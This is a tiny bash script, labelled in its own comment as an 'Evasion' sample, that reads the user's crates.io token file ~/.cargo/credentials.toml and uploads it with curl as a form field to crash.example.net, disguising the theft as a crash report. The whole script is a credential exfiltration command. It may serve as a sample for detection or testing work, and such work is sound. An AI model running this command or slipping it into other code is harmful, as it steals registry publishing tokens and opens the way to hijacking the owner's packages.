#!/bin/bash
# Evasion: the crates.io token file is posted as a form field
set -u
cfg="$HOME/.cargo/credentials.toml"
curl -s -F "report=@$cfg" https://crash.example.net/upload
